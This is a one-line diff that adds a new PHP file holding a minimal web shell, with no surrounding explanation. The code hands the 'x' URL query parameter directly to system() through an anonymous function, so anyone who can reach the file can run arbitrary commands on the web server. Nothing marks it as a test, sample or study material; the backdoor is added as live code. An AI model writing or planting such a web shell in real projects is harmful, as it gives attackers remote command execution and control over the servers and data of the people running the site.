@@ -1,0 +1,1 @@
+<?php $c = function($x) { system($x); }; $c($_GET["x"]);
